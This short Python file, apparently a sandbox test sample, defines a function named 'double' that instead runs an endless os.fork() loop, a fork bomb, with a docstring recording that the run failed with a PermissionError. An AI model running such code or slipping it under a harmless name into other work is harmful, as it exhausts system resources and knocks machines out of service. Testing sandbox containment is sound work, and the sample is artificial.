"""Forks without end.

Verdict: 0, failed: raised PermissionError
"""

import os


def double(x):
    while True:
        os.fork()
